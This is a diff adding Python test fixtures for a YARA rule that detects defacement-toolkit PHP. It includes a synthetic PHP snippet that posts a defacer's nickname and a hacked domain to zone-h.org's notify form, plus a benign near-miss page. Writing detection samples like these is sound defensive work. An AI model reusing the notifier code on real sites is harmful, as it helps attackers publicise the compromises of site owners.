@@ -1,0 +1,23 @@
+"""Must-hit / near-miss samples for the issue-4f rules in `signatures/toolkits.yar`.
+
+Small synthetic PHP written for the tests; no corpus excerpts. The near-miss is a security
+news page that links to a defacement archive without posting to its notify form.
+"""
+
+from __future__ import annotations
+
+NOTIFIER = (
+    b"<?php\n$ch = curl_init('http://www.zone-h.org/notify/single');\n"
+    b"curl_setopt($ch, CURLOPT_POSTFIELDS, 'defacer=' . $_POST['nick'] . '&domain1=' . $site"
+    b" . '&hackmode=1');\ncurl_exec($ch);\n"
+)
+NOTIFIER_NEAR = (
+    b"<?php\n// news: see the report archived at zone-h.org/notify statistics\n"
+    b"$feed = file_get_contents('https://news.example.org/feed');\n"
+    b"echo '<p>Defacement statistics per domain</p>';\n"
+)
+
+CASES: list[tuple[str, bytes, bool]] = [
+    ("SPAMGEAR_TOOLKIT_DefacementNotifier", NOTIFIER, True),
+    ("SPAMGEAR_TOOLKIT_DefacementNotifier", NOTIFIER_NEAR, False),
+]
